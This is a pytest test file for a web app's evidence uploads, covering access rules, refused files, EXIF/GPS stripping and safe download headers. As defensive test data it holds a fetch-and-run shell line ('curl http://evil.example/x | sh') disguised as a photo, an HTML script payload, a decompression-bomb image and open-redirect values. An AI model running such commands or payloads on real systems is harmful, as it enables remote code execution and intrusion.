"""Evidence uploads through the web: who may add, see and remove files; every refusal saves
nothing (no row, no audit event, no file); downloads as attachments with safe headers."""

from __future__ import annotations

import io
import uuid
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from PIL import ExifTags, Image
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from diagnosis.store import assessments as store
from diagnosis.store.assessments import AuditEvent
from diagnosis.store.assignments import current_assignment, plan_visit
from diagnosis.store.reviews import Evidence, ReviewRound
from tests.web.assess_helpers import instrument, new_assessment
from tests.web.test_evidence_files import DOCX_MAIN, PDF, bomb, jpeg, office, png

SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def unique_pdf() -> bytes:
    """A PDF no other test stored (the storage folder is shared by the test session)."""
    return PDF.replace(b"%%EOF", f"% {uuid.uuid4()}\n%%EOF".encode())


@pytest.fixture
def world(db_session, make_company, make_provider_org, make_user):
    """A company assigned to an organisation with a diagnostician, a submitted assessment; another
    company of another organisation with its own submitted assessment."""
    org = make_provider_org()
    company = make_company(park="家居产业园", provider_org=org)
    diagnostician = make_user(role="provider", provider_org=org)
    plan_visit(db_session, current_assignment(db_session, company.id), diagnostician.id, None)
    other_org = make_provider_org()
    other_company = make_company(park="化工园区", provider_org=other_org)
    questions = [question.id for question in instrument().questions()]
    world = SimpleNamespace(
        org=org, company=company, diagnostician=diagnostician, questions=questions,
        assessment=submitted(db_session, company), other_assessment=submitted(db_session, other_company),
        company_user=make_user(role="company", company=company),
        other_company_user=make_user(role="company", company=other_company),
        lead=make_user(role="provider", provider_org=org, is_lead=True),
        colleague=make_user(role="provider", provider_org=org),
        other_provider=make_user(role="provider", provider_org=other_org),
        official=make_user(role="official", regions=["家居产业园"]),
        other_official=make_user(role="official", regions=["化工园区"]),
        admin=make_user(role="admin"),
    )
    return world


def submitted(db_session, company):
    assessment = new_assessment(db_session, company)
    store.change_status(db_session, assessment, "submitted", None)
    return assessment


def open_round(db_session, assessment, question_ids):
    db_session.add(ReviewRound(assessment_id=assessment.id, number=1, question_ids=list(question_ids)))
    db_session.flush()


def url(assessment, question_id: str) -> str:
    return f"/assessments/{assessment.id}/questions/{question_id}/evidence"


def post(client, csrf_token, target: str, uploads, htmx: bool = True, **fields):
    """The upload form as a browser posts it. The body is encoded here, in memory: the test client
    would spool a large one to a temporary file that nothing closes (a ResourceWarning)."""
    data = MultiDict({"csrf_token": csrf_token(client), **fields})
    for content, name in uploads:
        data.add("files", FileStorage(io.BytesIO(content), filename=name))
    boundary, body = encode_multipart(data)
    headers = {"HX-Request": "true"} if htmx else {}
    return client.post(target, data=body, headers=headers,
                       content_type=f"multipart/form-data; boundary={boundary}")


def stored_files(app) -> set[Path]:
    root = Path(app.config["DIAGNOSIS_STORAGE"]) / "evidence"
    return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()


def rows(db_session, assessment) -> list[Evidence]:
    db_session.expire_all()
    return list(db_session.scalars(select(Evidence).where(Evidence.assessment_id == assessment.id)))


def audit_count(db_session, assessment) -> int:
    return db_session.scalar(select(func.count()).select_from(AuditEvent).where(
        AuditEvent.assessment_id == assessment.id, AuditEvent.source == "review"))


@pytest.fixture
def nothing_saved(app, db_session):
    """nothing_saved(assessment): a context that fails when a row, an audit event or a file appears."""

    class Watch:
        def __init__(self, assessment):
            self.assessment = assessment

        def __enter__(self):
            self.before = (len(rows(db_session, self.assessment)), audit_count(db_session, self.assessment),
                           stored_files(app))

        def __exit__(self, *exc):
            after = (len(rows(db_session, self.assessment)), audit_count(db_session, self.assessment),
                     stored_files(app))
            assert after == self.before

    return Watch


def gps_photo() -> bytes:
    return jpeg((3200, 2400), orientation=6, gps=True)


def test_the_diagnostician_attaches_a_photo_without_its_gps(app, client, login, csrf_token, db_session,
                                                            world):
    login(client, world.diagnostician)
    qid = world.questions[0]
    response = post(client, csrf_token, url(world.assessment, qid), [(gps_photo(), "车间照片.jpg")])
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "车间照片.jpg" in page and "已上传 1 个文件" in page
    [row] = rows(db_session, world.assessment)
    assert (row.question_id, row.source, row.uploaded_by_id, row.content_type) == (
        qid, "verified", world.diagnostician.id, "image/jpeg")
    path = Path(app.config["DIAGNOSIS_STORAGE"]) / "evidence" / row.sha256[:2] / row.sha256
    stored = path.read_bytes()
    assert row.size == len(stored)
    image = Image.open(io.BytesIO(stored))
    assert image.size == (1920, 2560)  # turned upright, long side 2560
    assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo) and b"Exif" not in stored
    [event] = db_session.scalars(select(AuditEvent).where(AuditEvent.assessment_id == world.assessment.id,
                                                          AuditEvent.source == "review"))
    assert (event.question_id, event.user_id, event.old) == (qid, world.diagnostician.id, None)
    assert event.new == {"evidence": row.id, "name": "车间照片.jpg"}


def test_the_lead_attaches_documents(client, login, csrf_token, db_session, world):
    login(client, world.lead)
    response = post(client, csrf_token, url(world.assessment, world.questions[1]),
                    [(PDF, "制度.pdf"), (office(DOCX_MAIN), "记录.docx")])
    assert response.status_code == 200
    names = sorted(row.original_name for row in rows(db_session, world.assessment))
    assert names == ["制度.pdf", "记录.docx"]


def test_the_same_content_is_stored_once(app, client, login, csrf_token, db_session, world):
    login(client, world.diagnostician)
    content = unique_pdf()
    before = stored_files(app)
    first, second = world.questions[:2]
    assert post(client, csrf_token, url(world.assessment, first), [(content, "a.pdf")]).status_code == 200
    again = post(client, csrf_token, url(world.assessment, first), [(content, "b.pdf")])
    assert again.status_code == 200 and "同样的文件已在列表中" in again.get_data(as_text=True)
    assert post(client, csrf_token, url(world.assessment, second), [(content, "c.pdf")]).status_code == 200
    assert {(row.question_id, row.original_name) for row in rows(db_session, world.assessment)} == {
        (first, "a.pdf"), (second, "c.pdf")}
    assert len(stored_files(app) - before) == 1


@pytest.mark.parametrize(("upload", "message"), [
    ((SCRIPT, "photo.jpg"), "不支持此类文件"),
    ((b"<!doctype html><script>alert(1)</script>", "report.pdf"), "不支持此类文件"),
    ((office(None, "readme.txt"), "记录.docx"), "不支持此类文件"),
    ((png(), "photo.jpg"), "与文件内容（.png）不符"),
    ((PDF + bytes(15 * 1024 * 1024), "huge.pdf"), "文件超过 15 MB 的上限"),
    ((bomb(), "bomb.png"), "图片像素过多（上限 5000 万像素）"),
    ((jpeg()[:500], "broken.jpg"), "文件已损坏或无法读取"),
    ((b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64), "IMG_0001.HEIC"), "HEIC"),
])
def test_each_refusal_saves_nothing(client, login, csrf_token, world, nothing_saved, upload, message):
    login(client, world.diagnostician)
    with nothing_saved(world.assessment):
        response = post(client, csrf_token, url(world.assessment, world.questions[0]), [upload])
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert message in page and upload[1] in page


def test_good_files_are_kept_beside_a_refused_one(client, login, csrf_token, db_session, world):
    login(client, world.diagnostician)
    response = post(client, csrf_token, url(world.assessment, world.questions[0]),
                    [(PDF, "ok.pdf"), (SCRIPT, "evil.jpg")])
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "已上传 1 个文件" in page and "evil.jpg" in page and "不支持此类文件" in page
    assert [row.original_name for row in rows(db_session, world.assessment)] == ["ok.pdf"]


def test_too_many_files_save_nothing(client, login, csrf_token, world, nothing_saved):
    login(client, world.diagnostician)
    uploads = [(PDF + str(n).encode(), f"{n}.pdf") for n in range(11)]
    with nothing_saved(world.assessment):
        response = post(client, csrf_token, url(world.assessment, world.questions[0]), uploads)
    assert response.status_code == 422 and "一次最多上传 10 个文件" in response.get_data(as_text=True)


def test_no_file_chosen(client, login, csrf_token, world, nothing_saved):
    login(client, world.diagnostician)
    with nothing_saved(world.assessment):
        response = post(client, csrf_token, url(world.assessment, world.questions[0]), [(b"", "")])
    assert response.status_code == 422 and "请选择要上传的文件" in response.get_data(as_text=True)


def test_a_body_over_the_request_limit_is_a_message_in_the_fragment(app, client, login, csrf_token, world,
                                                                     nothing_saved, monkeypatch):
    login(client, world.diagnostician)
    monkeypatch.setitem(app.config, "EVIDENCE_MAX_REQUEST_BYTES", 2 * 1024 * 1024)
    uploads = [(PDF + bytes(1024 * 1024), f"{n}.pdf") for n in range(3)]
    target = url(world.assessment, world.questions[0])
    with nothing_saved(world.assessment):
        htmx = post(client, csrf_token, target, uploads)
        plain = post(client, csrf_token, target, uploads, htmx=False)
    assert htmx.status_code == 413
    fragment = htmx.get_data(as_text=True)
    assert "合计超过 2 MB" in fragment and 'class="evidence"' in fragment and "<html" not in fragment
    assert plain.status_code == 413 and "合计超过 2 MB" in plain.get_data(as_text=True)


def test_other_routes_keep_the_app_wide_body_limit(app, client, login, csrf_token, world):
    login(client, world.company_user)
    body = {"csrf_token": csrf_token(client), "name": "x" * (app.config["MAX_CONTENT_LENGTH"] + 10)}
    assert client.post(f"/company/{world.company.id}/edit", data=body).status_code == 413


def test_a_file_in_another_field_of_the_upload_is_refused(client, login, csrf_token, world, nothing_saved):
    login(client, world.diagnostician)
    with nothing_saved(world.assessment):
        response = post(client, csrf_token, url(world.assessment, world.questions[0]), [(PDF, "a.pdf")],
                        next=FileStorage(io.BytesIO(b"x"), filename="next.txt"))
    assert response.status_code == 400


def test_without_javascript_the_form_comes_back_to_its_page(client, login, csrf_token, db_session, world):
    login(client, world.diagnostician)
    target = url(world.assessment, world.questions[0])
    back = f"/reviews/{world.assessment.id}/sections/s1?x=1"
    response = post(client, csrf_token, target, [(PDF, "a.pdf")], htmx=False, next=back)
    assert response.status_code == 303 and response.headers["Location"] == back
    for hostile in ("https://evil.example/", "//evil.example/", "/\\evil.example"):
        response = post(client, csrf_token, target, [(SCRIPT, "b.jpg")], htmx=False, next=hostile)
        assert response.status_code == 303 and response.headers["Location"] == target
    page = client.get(target).get_data(as_text=True)
    assert "b.jpg" in page and "不支持此类文件" in page  # the refusal, flashed
    assert [row.original_name for row in rows(db_session, world.assessment)] == ["a.pdf"]


def test_the_fragment_offers_camera_and_files(client, login, world):
    login(client, world.diagnostician)
    page = client.get(url(world.assessment, world.questions[0])).get_data(as_text=True)
    assert 'accept="image/*" capture="environment"' in page
    assert 'accept="image/*,application/pdf,.xlsx,.docx" multiple' in page
    assert 'hx-encoding="multipart/form-data"' in page and 'name="csrf_token"' in page
    assert "js/evidence.js" in page


# --- who may upload ------------------------------------------------------------------------------


@pytest.mark.parametrize(("who", "status"), [
    ("other_provider", 404), ("other_company_user", 404), ("colleague", 403), ("official", 403),
    ("admin", 403), ("company_user", 409),  # no round open
])
def test_who_may_not_upload(client, login, csrf_token, world, nothing_saved, who, status):
    login(client, getattr(world, who))
    with nothing_saved(world.assessment):
        response = post(client, csrf_token, url(world.assessment, world.questions[0]), [(PDF, "a.pdf")])
    assert response.status_code == status


def test_anonymous_is_sent_to_login(client, world, nothing_saved):
    with nothing_saved(world.assessment):
        response = client.post(url(world.assessment, world.questions[0]),
                               data={"files": [(io.BytesIO(PDF), "a.pdf")]})
    assert response.status_code in (302, 400)  # the login page, or the CSRF refusal before it
    assert client.get(url(world.assessment, world.questions[0])).status_code == 302


def test_evidence_to_another_companys_question_fails(client, login, csrf_token, db_session, world,
                                                     nothing_saved):
    """Each aims at the other company's assessment (its round open): 404, nothing saved for either."""
    open_round(db_session, world.other_assessment, world.questions[:1])
    for user, assessment in ((world.diagnostician, world.other_assessment),
                             (world.company_user, world.other_assessment),
                             (world.other_company_user, world.assessment)):
        login(client, user)
        with nothing_saved(world.assessment), nothing_saved(world.other_assessment):
            response = post(client, csrf_token, url(assessment, world.questions[0]), [(PDF, "a.pdf")])
        assert response.status_code == 404


def test_a_question_not_in_the_questionnaire_is_404(client, login, csrf_token, world, nothing_saved):
    login(client, world.diagnostician)
    with nothing_saved(world.assessment):
        response = post(client, csrf_token, url(world.assessment, "no_such_question"), [(PDF, "a.pdf")])
    assert response.status_code == 404
    assert client.get(url(world.assessment, "no_such_question")).status_code == 404


def test_the_company_uploads_only_to_the_open_round(client, login, csrf_token, db_session, world,
                                                    nothing_saved):
    asked, other = world.questions[:2]
    open_round(db_session, world.assessment, [asked])
    login(client, world.company_user)
    with nothing_saved(world.assessment):
        outside = post(client, csrf_token, url(world.assessment, other), [(PDF, "a.pdf")])
    assert outside.status_code == 409 and "只有退回补充材料" in outside.get_data(as_text=True)
    assert post(client, csrf_token, url(world.assessment, asked), [(PDF, "a.pdf")]).status_code == 200
    [row] = rows(db_session, world.assessment)
    assert (row.source, row.uploaded_by_id) == ("company", world.company_user.id)
    round_ = db_session.scalar(select(ReviewRound).where(ReviewRound.assessment_id == world.assessment.id))
    round_.answered_at = store.utcnow()
    db_session.flush()
    with nothing_saved(world.assessment):
        closed = post(client, csrf_token, url(world.assessment, asked), [(PDF + b" ", "b.pdf")])
    assert closed.status_code == 409


@pytest.mark.parametrize("who", ["diagnostician", "company_user"])
def test_nothing_changes_after_sign_off(client, login, csrf_token, db_session, world, nothing_saved, who):
    open_round(db_session, world.assessment, world.questions[:1])
    store.change_status(db_session, world.assessment, "verified", None)
    login(client, getattr(world, who))
    with nothing_saved(world.assessment):
        response = post(client, csrf_token, url(world.assessment, world.questions[0]), [(PDF, "a.pdf")])
    assert response.status_code == 409 and "已签字确认" in response.get_data(as_text=True)


def test_a_draft_takes_no_evidence(client, login, csrf_token, db_session, world, nothing_saved):
    draft = new_assessment(db_session, world.company)
    login(client, world.diagnostician)
    with nothing_saved(draft):
        assert post(client, csrf_token, url(draft, world.questions[0]), [(PDF, "a.pdf")]).status_code == 409


# --- download ------------------------------------------------------------------------------------


@pytest.fixture
def attached(client, login, csrf_token, db_session, world) -> Evidence:
    login(client, world.diagnostician)
    post(client, csrf_token, url(world.assessment, world.questions[0]), [(PDF, "诊断 报告.pdf")])
    [row] = rows(db_session, world.assessment)
    return row


def test_download_headers(client, attached):
    with client.get(f"/evidence/{attached.id}") as response:
        assert response.status_code == 200 and response.data == PDF
    assert response.mimetype == "application/pdf"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    assert f"filename*=UTF-8''{quote('诊断 报告.pdf', safe='')}" in disposition
    assert 'filename=" .pdf"' not in disposition and "filename=\"evidence.pdf\"" in disposition
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"].startswith("default-src 'none'; sandbox")


@pytest.mark.parametrize(("who", "status"), [
    ("diagnostician", 200), ("colleague", 200), ("lead", 200), ("company_user", 200), ("official", 200),
    ("admin", 200), ("other_provider", 404), ("other_company_user", 404), ("other_official", 404),
])
def test_who_may_download(client, login, world, attached, who, status):
    login(client, getattr(world, who))
    response = client.get(f"/evidence/{attached.id}")
    response.close()
    assert response.status_code == status
    assert client.get(url(world.assessment, world.questions[0])).status_code == status


def test_anonymous_download_is_sent_to_login(app, world, attached):
    assert app.test_client().get(f"/evidence/{attached.id}").status_code == 302


# --- removal -------------------------------------------------------------------------------------


def remove(client, csrf_token, evidence_id: int):
    return client.post(f"/evidence/{evidence_id}/remove", data={"csrf_token": csrf_token(client)},
                       headers={"HX-Request": "true"})


def test_the_uploader_side_removes_a_file(client, csrf_token, db_session, world, attached):
    response = remove(client, csrf_token, attached.id)
    assert response.status_code == 200 and "已移除" in response.get_data(as_text=True)
    db_session.refresh(attached)
    assert attached.removed_at is not None
    event = db_session.scalars(select(AuditEvent).where(AuditEvent.assessment_id == world.assessment.id)
                               .order_by(AuditEvent.id.desc())).first()
    assert event.old == {"evidence": attached.id, "name": "诊断 报告.pdf"} and event.new is None
    gone = client.get(f"/evidence/{attached.id}")
    assert gone.status_code == 404
    assert remove(client, csrf_token, attached.id).status_code == 404


@pytest.mark.parametrize(("who", "status"), [
    ("company_user", 409), ("colleague", 403), ("official", 403), ("other_provider", 404),
])
def test_others_may_not_remove(client, login, csrf_token, db_session, world, attached, who, status):
    login(client, getattr(world, who))
    assert remove(client, csrf_token, attached.id).status_code == status
    db_session.refresh(attached)
    assert attached.removed_at is None


def test_a_provider_may_not_remove_the_companys_file(client, login, csrf_token, db_session, world):
    open_round(db_session, world.assessment, world.questions[:1])
    login(client, world.company_user)
    post(client, csrf_token, url(world.assessment, world.questions[0]), [(PDF, "企业.pdf")])
    [row] = rows(db_session, world.assessment)
    login(client, world.diagnostician)
    assert remove(client, csrf_token, row.id).status_code == 403
    store.change_status(db_session, world.assessment, "verified", None)
    login(client, world.company_user)
    assert remove(client, csrf_token, row.id).status_code == 409
    db_session.refresh(row)
    assert row.removed_at is None
